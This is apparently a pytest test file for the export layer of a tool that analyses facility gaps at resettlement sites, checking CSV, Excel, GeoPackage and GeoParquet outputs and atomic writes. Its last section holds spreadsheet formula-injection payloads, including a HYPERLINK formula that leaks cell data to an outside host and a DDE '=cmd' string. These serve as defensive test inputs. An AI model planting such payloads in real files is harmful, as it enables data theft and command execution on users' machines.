"""layers.export: the four output files, their format, and atomic writes."""

from __future__ import annotations

import dataclasses

import os
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
from shapely.geometry import Point

from anzhi.core.errors import DataSourceError, InputError
from analysis.coverage import COVERAGE_COLUMNS, coverage_table
from analysis.gaps import GAPS_COLUMNS, evaluate
from analysis.rules import RuleSet, load_rules
from anzhi.core.files import atomic_write
from anzhi.core.settings import override
from layers.export import ACCESS_COLUMNS, OUTPUT_FILES, write_outputs

LON0, LAT0 = 99.2, 24.7
ZH_HEADERS = ["安置点编号", "安置点名称", "县", "乡镇", "人数", "户数", "设施类型", "规则", "状态",
              "最近设施", "距离(米)", "时间(分钟)", "原因", "依据文件", "条款", "等级"]


#: The foundation rules of the default set, which these worked cases were written for.
FOUNDATION_IDS = ("health-every-site", "police-800", "police-3000")


def foundation() -> RuleSet:
    """The default rule set cut down to the foundation rules (the union adds many more)."""
    rs = load_rules()
    return dataclasses.replace(rs, rules=tuple(r for r in rs if r.id in FOUNDATION_IDS))


@pytest.fixture()
def results() -> tuple[pd.DataFrame, pd.DataFrame, pd.DataFrame, RuleSet]:
    sites = gpd.GeoDataFrame({
        "site_id": ["S3", "S1", "S2"], "site_name": ["幸福小区", "移民新村", "阳光社区"],
        "county": ["施甸县", "隆阳区", "隆阳区"], "township": ["甸阳镇", "板桥镇", "板桥镇"],
        "population": [3200, 900, 120], "households": [800.0, 210.0, np.nan],
        "kind": ["城镇", "农村", "农村"]},
        geometry=[Point(LON0 + 0.05, LAT0), Point(LON0, LAT0), Point(LON0 + 0.01, LAT0)],
        crs=4326)
    facs = gpd.GeoDataFrame({"facility_id": ["S1-clinic"], "facility_type": ["clinic"],
                             "site_id": ["S1"]}, geometry=[Point(LON0, LAT0)], crs=4326)
    access = pd.DataFrame({
        "site_id": ["S1", "S1", "S2", "S2", "S3", "S3"],
        "facility_type": ["clinic", "police_room"] * 3,
        "nearest_facility_id": ["S1-clinic", "P1", "S1-clinic", "P1", "", "P1"],
        "dist_m": [0.0, 5200.0, 1100.0, 6000.0, np.nan, 4100.0],
        "time_min": [0.0, 70.0, 14.7, 80.0, np.nan, 12.0],
        "snap_dist_m": [5.0, 5.0, 40.0, 40.0, 2600.0, 20.0],
        "reason": ["", "", "", "", "no_road_nearby", ""]})
    rules = foundation()
    gaps = evaluate(sites, facs, access, rules)
    return gaps, coverage_table(gaps), access, rules


def test_files_and_csv_schemas(tmp_path: Path, results) -> None:  # type: ignore[no-untyped-def]
    gaps, cov, access, rules = results
    out = tmp_path / "out" / "demo"
    paths = write_outputs(out, gaps=gaps, coverage=cov, access=access, rules=rules)
    assert set(paths) == set(OUTPUT_FILES)
    assert sorted(os.listdir(out)) == sorted(OUTPUT_FILES)
    assert sorted(os.listdir(out.parent)) == ["demo"]  # no temporary folder left
    for name, cols in (("gaps.csv", GAPS_COLUMNS), ("coverage.csv", COVERAGE_COLUMNS),
                       ("access.csv", ACCESS_COLUMNS)):
        raw = paths[name].read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), f"{name} has no BOM for Excel"
        df = pd.read_csv(paths[name], encoding="utf-8-sig", keep_default_na=False)
        assert tuple(df.columns) == cols
    g = pd.read_csv(paths["gaps.csv"], encoding="utf-8-sig", keep_default_na=False)
    assert len(g) == len(gaps)
    # sorted by county, township, site_id, rule order
    assert g["site_id"].tolist() == ["S3", "S3", "S3", "S1", "S1", "S2"]
    assert g["rule_id"].tolist()[:3] == ["health-every-site", "police-800", "police-3000"]
    assert "幸福小区" in g["site_name"].tolist()
    assert g.loc[0, "status"] == "unroutable"


def test_xlsx_chinese(tmp_path: Path, results) -> None:  # type: ignore[no-untyped-def]
    gaps, cov, access, rules = results
    paths = write_outputs(tmp_path / "o", gaps=gaps, coverage=cov, access=access, rules=rules)
    wb = openpyxl.load_workbook(paths["gaps.xlsx"])
    # summary, gap list, rules, then one sheet per facility type in rule order
    assert wb.sheetnames == ["汇总", "缺口清单", "一点一策", "规则", "卫生室", "警务室"]
    ws = wb["缺口清单"]
    assert [c.value for c in ws[1]] == ZH_HEADERS
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:P{len(gaps) + 1}"
    assert ws.column_dimensions["M"].width > ws.column_dimensions["E"].width  # reason wider
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert {r[8] for r in rows} <= {"达标", "共享达标", "缺失", "容量不足", "无法到达"}
    assert rows[0][:3] == ("S3", "幸福小区", "施甸县")
    assert rows[0][6] == "卫生室" and rows[0][8] == "无法到达"
    assert "距道路 2.6 km" in rows[0][12]
    assert rows[0][10] is None  # NaN distance -> empty cell
    summary = wb["汇总"]
    assert summary.freeze_panes == "A2" and summary.auto_filter.ref
    head = [c.value for c in summary[1]]
    assert head[:3] == ["设施类型", "规则", "名称"] and head[-1] == "合计"
    body = {r[1]: r for r in summary.iter_rows(min_row=2, values_only=True)}
    assert body["police-800"][-1] == 2 and body["health-every-site"][-1] == 3
    assert head[-2] == "覆盖率"
    h = body["health-every-site"]
    assert h[-2] == pytest.approx((h[3] + h[4]) / 3)  # (达标 + 共享达标) / 合计
    rules_ws = wb["规则"]
    rule_rows = list(rules_ws.iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rule_rows] == rules.rule_ids
    p3000 = rule_rows[2]
    # cited by title and year (issue 16.2), as the rule set says
    assert p3000[6] == rules.rules[2].source and "《关于加强和完善易地扶贫搬迁后续工作的意见》" in p3000[6]
    assert p3000[7] == "三(四)19"
    assert rules_ws.freeze_panes == "A2"
    police = wb["警务室"]
    p_rows = list(police.iter_rows(min_row=2, values_only=True))
    assert [c.value for c in police[1]] == ZH_HEADERS
    assert police.freeze_panes == "A2" and police.auto_filter.ref == f"A1:P{len(p_rows) + 1}"
    assert p_rows and {r[6] for r in p_rows} == {"警务室"}
    assert len(p_rows) == int((gaps["facility_type"] == "police_room").sum())


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_long_gap_list_is_written_once_without_type_sheets(tmp_path: Path, results,  # type: ignore
                                                              lang: str) -> None:
    gaps, cov, access, rules = results
    with override(xlsx_type_sheets_max_rows=len(gaps) - 1):
        paths = write_outputs(tmp_path / "o", gaps=gaps, coverage=cov, access=access,
                              rules=rules, lang=lang)
    wb = openpyxl.load_workbook(paths["gaps.xlsx"])
    assert wb.sheetnames == (["汇总", "缺口清单", "一点一策", "规则"] if lang == "zh" else
                             ["Summary", "Gaps", "site plans", "Rules"])
    last = [r for r in wb.worksheets[0].iter_rows(min_row=2, values_only=True)][-1]
    assert f"{len(gaps):,}" in last[0] and ("按设施类型筛选" in last[0] or "filter" in last[0])
    assert len(list(wb.worksheets[1].iter_rows(min_row=2))) == len(gaps)
    with override(xlsx_type_sheets_max_rows=len(gaps)):  # at the limit: still one per type
        paths = write_outputs(tmp_path / "o2", gaps=gaps, coverage=cov, access=access,
                              rules=rules, lang=lang)
    assert len(openpyxl.load_workbook(paths["gaps.xlsx"]).sheetnames) == 6


def test_xlsx_english(tmp_path: Path, results) -> None:  # type: ignore[no-untyped-def]
    gaps, cov, access, rules = results
    paths = write_outputs(tmp_path / "o", gaps=gaps, coverage=cov, access=access,
                          rules=rules.with_overrides({"police-800.min_population": 1000}),
                          lang="en")
    wb = openpyxl.load_workbook(paths["gaps.xlsx"])
    assert wb.sheetnames == ["Summary", "Gaps", "site plans", "Rules", "Clinic", "Police room"]
    head = [c.value for c in wb["Gaps"][1]]
    assert head[0] == "Site ID" and head[8] == "Status" and head[12] == "Reason"
    first = next(wb["Gaps"].iter_rows(min_row=2, values_only=True))
    assert first[8] == "Unroutable" and "from the nearest road" in first[12]
    changed = [r for r in wb["Rules"].iter_rows(min_row=2, values_only=True)
               if r[0] == "police-800"][0]
    assert "min_population=1000" in changed
    # 一点一策 in English: one row per gap of each site (or one "no gap" row), actions in English
    from analysis.plans import site_plans

    plan_ws = wb["site plans"]
    plan_rows = list(plan_ws.iter_rows(min_row=2, values_only=True))
    expected_plans = site_plans(gaps, rules.with_overrides({"police-800.min_population": 1000}))
    assert len(plan_rows) == len(expected_plans) > 0
    plan_head = [c.value for c in plan_ws[1]]
    assert plan_head[0] == "Site ID" and plan_head[-1] == "What would close it"
    assert [r[-1] for r in plan_rows] == expected_plans["action_en"].tolist()
    assert plan_ws.freeze_panes == "A2"
    # the document by its Chinese title, the English title beside it (issue 16.2)
    rule = next(r for r in rules if r.id == "police-3000")
    row = [r for r in wb["Rules"].iter_rows(min_row=2, values_only=True) if r[0] == "police-3000"][0]
    assert rule.source_en and rule.source_en != rule.source
    assert row[6] == f"{rule.source} ({rule.source_en})" and "《" in row[6]
    assert row[7].startswith(rule.clause)


def test_rules_sheet_without_a_rule_set(tmp_path: Path, results) -> None:  # type: ignore
    gaps, cov, access, _ = results
    paths = write_outputs(tmp_path / "o", gaps=gaps, coverage=cov, access=access)
    rows = list(openpyxl.load_workbook(paths["gaps.xlsx"])["规则"].iter_rows(
        min_row=2, values_only=True))
    assert [r[0] for r in rows] == ["health-every-site", "police-800", "police-3000"]


def test_failed_write_leaves_out_dir_untouched(tmp_path: Path, results) -> None:  # type: ignore
    gaps, cov, access, rules = results
    out = tmp_path / "out"
    out.mkdir()
    (out / "notes.txt").write_text("keep me", encoding="utf-8")
    (out / "gaps.csv").write_text("old gaps", encoding="utf-8")
    bad = gaps.copy()
    bad["reason"] = [{"not": "a cell"}] * len(bad)  # the csv takes it, openpyxl does not
    with pytest.raises(ValueError, match="Cannot convert"):
        write_outputs(out, gaps=bad, coverage=cov, access=access, rules=rules)
    assert sorted(os.listdir(out)) == ["gaps.csv", "notes.txt"]
    assert (out / "gaps.csv").read_text(encoding="utf-8") == "old gaps"
    assert os.listdir(tmp_path) == ["out"]  # the temporary folder is gone


def test_failed_write_creates_no_folder(tmp_path: Path, results) -> None:  # type: ignore
    gaps, cov, access, rules = results
    bad = gaps.copy()
    bad["reason"] = [{"not": "a cell"}] * len(bad)
    with pytest.raises(ValueError, match="Cannot convert"):
        write_outputs(tmp_path / "new", gaps=bad, coverage=cov, access=access, rules=rules)
    assert os.listdir(tmp_path) == []


def test_failure_while_moving_files_in_restores_old_versions(tmp_path: Path,
                                                             results) -> None:  # type: ignore
    gaps, cov, access, rules = results
    out = tmp_path / "out"
    out.mkdir()
    (out / "gaps.csv").write_text("old gaps", encoding="utf-8")
    (out / "coverage.csv").mkdir()  # a folder where coverage.csv must go: third move fails
    with pytest.raises(DataSourceError, match="could not put coverage.csv.*left as it was"):
        write_outputs(out, gaps=gaps, coverage=cov, access=access, rules=rules)
    assert sorted(os.listdir(out)) == ["coverage.csv", "gaps.csv"]
    assert (out / "gaps.csv").read_text(encoding="utf-8") == "old gaps"
    assert os.listdir(tmp_path) == ["out"]


def test_rewrite_replaces_outputs_and_keeps_other_files(tmp_path: Path,
                                                         results) -> None:  # type: ignore
    gaps, cov, access, rules = results
    out = tmp_path / "out"
    write_outputs(out, gaps=gaps, coverage=cov, access=access, rules=rules)
    (out / "notes.txt").write_text("keep me", encoding="utf-8")
    write_outputs(out, gaps=gaps.iloc[:2], coverage=cov, access=access, rules=rules)
    assert (out / "notes.txt").read_text(encoding="utf-8") == "keep me"
    assert len(pd.read_csv(out / "gaps.csv", encoding="utf-8-sig")) == 2
    assert sorted(os.listdir(tmp_path)) == ["out"]


def test_bad_arguments(tmp_path: Path, results) -> None:  # type: ignore[no-untyped-def]
    gaps, cov, access, rules = results
    with pytest.raises(InputError, match="unknown language 'fr'"):
        write_outputs(tmp_path / "o", gaps=gaps, coverage=cov, access=access, lang="fr")
    with pytest.raises(InputError, match="column 'reason_en' is missing"):
        write_outputs(tmp_path / "o", gaps=gaps.drop(columns="reason_en"), coverage=cov,
                      access=access)
    (tmp_path / "afile").write_text("x", encoding="utf-8")
    with pytest.raises(InputError, match="output folder is an existing file"):
        write_outputs(tmp_path / "afile", gaps=gaps, coverage=cov, access=access)
    assert sorted(os.listdir(tmp_path)) == ["afile"]


def test_atomic_write(tmp_path: Path) -> None:
    target = tmp_path / "a.csv"
    target.write_text("v1", encoding="utf-8")

    def boom(p: Path) -> None:
        p.write_text("half", encoding="utf-8")
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError, match="disk full"):
        atomic_write(target, boom)
    assert target.read_text(encoding="utf-8") == "v1"
    assert os.listdir(tmp_path) == ["a.csv"]
    seen: list[str] = []

    def good(p: Path) -> None:
        seen.append(p.suffix)
        p.write_text("v2", encoding="utf-8")

    assert atomic_write(target, good) == target
    assert target.read_text(encoding="utf-8") == "v2" and seen == [".csv"]
    assert os.listdir(tmp_path) == ["a.csv"]


def test_gpkg_with_site_points(tmp_path: Path, results) -> None:  # type: ignore[no-untyped-def]
    import pyogrio

    gaps, cov, access, rules = results
    sites = gpd.GeoDataFrame({
        "site_id": ["S3", "S1", "S2"], "site_name": ["幸福小区", "移民新村", "阳光社区"],
        "population": [3200, 900, 120]},
        geometry=[Point(LON0 + 0.05, LAT0), Point(LON0, LAT0), Point(LON0 + 0.01, LAT0)],
        crs=4326)
    out = tmp_path / "o"
    paths = write_outputs(out, gaps=gaps, coverage=cov, access=access, rules=rules, sites=sites)
    assert set(paths) == {*OUTPUT_FILES, "gaps.gpkg"}
    assert sorted(os.listdir(out)) == sorted([*OUTPUT_FILES, "gaps.gpkg"])
    layers = {name for name, _ in pyogrio.list_layers(paths["gaps.gpkg"])}
    assert layers == {"gaps", "sites"}
    pts = gpd.read_file(paths["gaps.gpkg"], layer="gaps")
    assert pts.crs.to_epsg() == 4326 and len(pts) == len(gaps)
    assert set(GAPS_COLUMNS) <= set(pts.columns)
    s3 = pts[pts["site_id"] == "S3"]
    assert len(s3) == 3 and (s3.geometry.x.round(6) == round(LON0 + 0.05, 6)).all()
    per_site = gpd.read_file(paths["gaps.gpkg"], layer="sites").set_index("site_id")
    assert per_site.loc["S3", "status"] == "unroutable"  # worst of its rows
    assert per_site.loc["S1", "n_rules"] == 2 and per_site.loc["S2", "n_rules"] == 1


def test_gpkg_needs_site_ids(tmp_path: Path, results) -> None:  # type: ignore[no-untyped-def]
    gaps, cov, access, rules = results
    bad = gpd.GeoDataFrame({"name": ["x"]}, geometry=[Point(LON0, LAT0)], crs=4326)
    with pytest.raises(InputError, match="column 'site_id' is missing"):
        write_outputs(tmp_path / "o", gaps=gaps, coverage=cov, access=access, sites=bad)
    assert not (tmp_path / "o").exists()


def test_rules_sheet_shows_capacity_norms(tmp_path: Path, results) -> None:  # type: ignore
    gaps, cov, access, _ = results
    rules = load_rules("baoshan-2023")
    paths = write_outputs(tmp_path / "o", gaps=gaps, coverage=cov, access=access, rules=rules)
    ws = openpyxl.load_workbook(paths["gaps.xlsx"])["规则"]
    head = [c.value for c in ws[1]]
    assert head[5] == "容量标准"
    rows = {r[0]: r for r in ws.iter_rows(min_row=2, values_only=True)}
    assert "每名民警 ≤ 5,000 人" in rows["police-ratio"][5]
    assert "保山市民政局《对市政协四届六次会议第0132号提案" in rows["police-ratio"][5]
    assert rows["police-800"][5] is None


def test_file_sha256_reads_a_file_once_and_sees_every_change(tmp_path: Path) -> None:
    import hashlib
    import os

    from anzhi.core.files import file_sha256, sha256_of

    f = tmp_path / "dem.tif"
    f.write_bytes(b"elevation" * 1000)
    assert file_sha256(f) == hashlib.sha256(b"elevation" * 1000).hexdigest()
    before = sha256_of.cache_info()
    assert file_sha256(str(f)) == file_sha256(f)  # str or Path, the same key
    after = sha256_of.cache_info()
    assert after.hits == before.hits + 2 and after.misses == before.misses
    # rewritten with other bytes of the same size: a new key, the new hash
    st = f.stat()
    f.write_bytes(b"ELEVATION" * 1000)
    os.utime(f, ns=(st.st_atime_ns, st.st_mtime_ns + 1_000_000))
    assert file_sha256(f) == hashlib.sha256(b"ELEVATION" * 1000).hexdigest()


# --------------------------------------------------------------------------------------
# Text stays text (issue 18.2), counts stay whole (16.4), temp folders of killed runs (18.4)
# --------------------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://x/?"&A1,"click")'


def _hostile(gaps: pd.DataFrame) -> pd.DataFrame:
    bad = gaps.copy()
    bad["site_name"] = [HOSTILE, "+SUM(1,2)", "-2+3", "@cmd", "\tx", "#N/A"][: len(bad)] + \
        ["普通"] * max(len(bad) - 6, 0)
    bad["site_id"] = bad["site_id"].astype(str).where(bad["site_id"] != "S1", "=1+1")
    bad["county"] = bad["county"].astype(str) + "\x01"  # a control character a sheet refuses
    return bad


@pytest.mark.parametrize("fast", [True, False])
def test_xlsx_never_holds_a_formula(tmp_path: Path, results, fast: bool,  # type: ignore
                                    monkeypatch: pytest.MonkeyPatch) -> None:
    import layers.sheets as sheets

    monkeypatch.setattr(sheets, "_FAST_ROWS", fast)  # both ways of streaming rows
    gaps, cov, access, rules = results
    bad = _hostile(gaps)
    paths = write_outputs(tmp_path / "o", gaps=bad, coverage=cov, access=access, rules=rules)
    wb = openpyxl.load_workbook(paths["gaps.xlsx"])
    texts, plan_texts = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value}"
                assert c.data_type != "e", f"{ws.title}!{c.coordinate} is an error value"
                (plan_texts if ws.title == "一点一策" else texts).append(c.value)
    for col, text in [("site_name", t) for t in (HOSTILE, "+SUM(1,2)", "-2+3", "@cmd", "\tx",
                                                 "#N/A")] + [("site_id", "=1+1")]:
        n = int((bad[col] == text).sum())
        assert n and texts.count(text) == 2 * n, text  # gap list and its type's sheet
    assert "=1+1" in plan_texts  # the site's plan names it, as text (checked above: no formula)
    assert "施甸县\ufffd" in texts  # the control character replaced, not a crash
    gap_rows = list(wb["缺口清单"].iter_rows(min_row=2, values_only=True))
    assert {r[4] for r in gap_rows} == {3200, 900, 120}  # numbers stay numbers
    assert wb["缺口清单"]["E2"].number_format == "#,##0"


def test_csv_neutralises_formula_text_and_keeps_numbers(tmp_path: Path,  # type: ignore
                                                        results) -> None:
    gaps, cov, access, rules = results
    bad = _hostile(gaps)
    bad["dist_m"] = -1.5  # a negative number is no formula: it stays a number
    access_bad = access.assign(nearest_facility_id=access["nearest_facility_id"].where(
        access["nearest_facility_id"] != "P1", "=cmd|' /C calc'!A0"))
    paths = write_outputs(tmp_path / "o", gaps=bad, coverage=cov, access=access_bad,
                          rules=rules)
    raw = paths["gaps.csv"].read_text(encoding="utf-8-sig")
    g = pd.read_csv(paths["gaps.csv"], encoding="utf-8-sig", keep_default_na=False)
    names = set(g["site_name"])
    assert {"'" + HOSTILE, "'+SUM(1,2)", "'-2+3", "'@cmd", "'\tx"} <= names
    assert "#N/A" in names  # not a formula start: left as it is
    assert "'=1+1" in set(g["site_id"])
    assert ",-1.5," in raw and "'-1.5" not in raw
    assert (g["dist_m"] == -1.5).all() and g["population"].dtype.kind == "i"
    a = pd.read_csv(paths["access.csv"], encoding="utf-8-sig", keep_default_na=False)
    assert "'=cmd|' /C calc'!A0" in set(a["nearest_facility_id"])
    assert not any(str(v).startswith(("=", "+", "@")) for v in a["nearest_facility_id"])


def test_csv_counts_are_whole_numbers(tmp_path: Path, results) -> None:  # type: ignore
    gaps, cov, access, rules = results
    assert gaps["households"].dtype.kind == "f" and gaps["households"].isna().any()
    paths = write_outputs(tmp_path / "o", gaps=gaps, coverage=cov.astype(
        {c: float for c in ("sites_required", "sites_covered", "pop_required", "pop_covered")}),
        access=access, rules=rules)
    lines = paths["gaps.csv"].read_text(encoding="utf-8-sig").splitlines()
    head = lines[0].split(",")
    hh = [line.split(",")[head.index("households")] for line in lines[1:]]
    assert set(hh) == {"800", "210", ""}  # S2 has no household count: empty, not nan
    assert not any(v.endswith(".0") for v in hh)
    cov_lines = paths["coverage.csv"].read_text(encoding="utf-8-sig").splitlines()
    chead = cov_lines[0].split(",")
    for line in cov_lines[1:]:
        cells = line.split(",")
        for c in ("sites_required", "sites_covered", "pop_required", "pop_covered"):
            assert cells[chead.index(c)].isdigit(), (c, line)
        assert "." in cells[chead.index("share_sites")] or cells[chead.index("share_sites")] \
            in ("0", "1", "")
    # a fractional value keeps its decimals (not every float column is a count)
    frac = gaps.assign(households=gaps["households"] + 0.5)
    paths = write_outputs(tmp_path / "f", gaps=frac, coverage=cov, access=access, rules=rules)
    f = pd.read_csv(paths["gaps.csv"], encoding="utf-8-sig")
    assert set(f["households"].dropna()) == {800.5, 210.5}


def _dead_pid() -> int:
    import subprocess
    import sys

    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid  # waited for: no process has this id now


def test_stale_temp_folders_of_killed_runs_are_removed(tmp_path: Path,  # type: ignore
                                                       results) -> None:
    gaps, cov, access, rules = results
    out = tmp_path / "demo"
    dead = tmp_path / f".demo.tmp-{_dead_pid()}-abcd1234"
    dead.mkdir()
    (dead / "gaps.xlsx").write_bytes(b"complete-looking")
    alive = tmp_path / f".demo.tmp-{os.getppid()}-efgh5678"  # a live process: left alone
    alive.mkdir()
    other = tmp_path / ".other.tmp-1-abcd1234"  # another output's folder: left alone
    other.mkdir()
    legacy_old = tmp_path / ".demo.tmp-k2j4h5g6"  # no pid (older versions), two days old
    legacy_old.mkdir()
    os.utime(legacy_old, (0, os.stat(legacy_old).st_mtime - 2 * 86400))
    legacy_new = tmp_path / ".demo.tmp-a1b2c3d4"  # no pid, recent: may still be running
    legacy_new.mkdir()
    write_outputs(out, gaps=gaps, coverage=cov, access=access, rules=rules)
    assert sorted(os.listdir(tmp_path)) == sorted(
        ["demo", alive.name, other.name, legacy_new.name])
    assert sorted(os.listdir(out)) == sorted(OUTPUT_FILES)


def test_temp_folder_says_it_is_incomplete(tmp_path: Path, results) -> None:  # type: ignore
    gaps, cov, access, rules = results
    bad = gaps.copy()
    bad["reason"] = [{"not": "a cell"}] * len(bad)
    seen: list[list[str]] = []
    import layers.export as export

    real = export.atomic_write

    def spy(path, writer):  # type: ignore[no-untyped-def]
        tmp = Path(path).parent
        seen.append(sorted(os.listdir(tmp)))
        assert tmp.name.startswith(f".o.tmp-{os.getpid()}-")
        return real(path, writer)

    mp = pytest.MonkeyPatch()
    mp.setattr(export, "atomic_write", spy)
    try:
        with pytest.raises(ValueError, match="Cannot convert"):
            write_outputs(tmp_path / "o", gaps=bad, coverage=cov, access=access, rules=rules)
    finally:
        mp.undo()
    assert seen and all("INCOMPLETE-未完成.txt" in names for names in seen)
    note = export._INCOMPLETE_TEXT
    assert "未完成" in note and "INCOMPLETE" in note


def test_geoparquet_of_gaps_and_sites(tmp_path: Path, results) -> None:  # type: ignore
    gaps, cov, access, rules = results
    sites = gpd.GeoDataFrame({"site_id": ["S3", "S1", "S2"], "population": [3200, 900, 120]},
                             geometry=[Point(LON0 + 0.05, LAT0), Point(LON0, LAT0),
                                       Point(LON0 + 0.01, LAT0)], crs=4326)
    paths = write_outputs(tmp_path / "o", gaps=gaps, coverage=cov, access=access, rules=rules,
                          sites=sites, parquet=True)
    assert {"gaps.parquet", "sites.parquet"} <= set(paths)
    pts = gpd.read_parquet(paths["gaps.parquet"])
    assert pts.crs.to_epsg() == 4326 and len(pts) == len(gaps)
    assert set(GAPS_COLUMNS) <= set(pts.columns)
    s3 = pts[pts["site_id"] == "S3"]
    assert len(s3) == 3 and (s3.geometry.x.round(6) == round(LON0 + 0.05, 6)).all()
    per_site = gpd.read_parquet(paths["sites.parquet"]).set_index("site_id")
    assert per_site.loc["S3", "status"] == "unroutable" and per_site.loc["S1", "n_rules"] == 2
    with pytest.raises(InputError, match="GeoParquet output needs the sites"):
        write_outputs(tmp_path / "p", gaps=gaps, coverage=cov, access=access, parquet=True)
